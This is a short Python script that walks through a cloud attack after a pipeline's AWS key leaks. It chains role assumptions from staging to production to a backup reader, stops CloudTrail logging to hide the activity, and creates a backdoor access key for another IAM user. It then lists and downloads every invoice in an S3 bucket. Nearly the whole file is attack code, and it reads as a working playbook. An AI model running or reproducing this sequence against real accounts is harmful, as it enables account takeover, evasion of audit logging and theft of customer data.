"""The attack with a pipeline's key that leaked: from role to role, a key for another user, a bucket."""

import aws

ROLES = ["deploy-staging", "deploy-production", "backup-reader"]

client = aws.Client.of_environment()
client.ask("sts", "GetCallerIdentity")
for role in ROLES:
    arn = f"arn:aws:iam::123456789012:role/{role}"
    answer = client.ask("sts", "AssumeRole", RoleArn=arn, RoleSessionName="s3-sync")
    client = aws.Client(
        aws.value(answer, "AccessKeyId"), aws.value(answer, "SecretAccessKey"), aws.value(answer, "SessionToken"), agent=client.agent
    )
    print(f"    it holds role {role} now", flush=True)
client.ask("cloudtrail", "StopLogging", Name="shop-trail")
client.ask("iam", "CreateAccessKey", UserName="bob")
listed = client.send("s3", "GET", "/shop-invoices?list-type=2").decode()
objects = aws.values(listed, "Key")
for name in objects:
    client.send("s3", "GET", f"/shop-invoices/{name}")
print(f"    it made a key for bob and read {len(objects)} invoices")
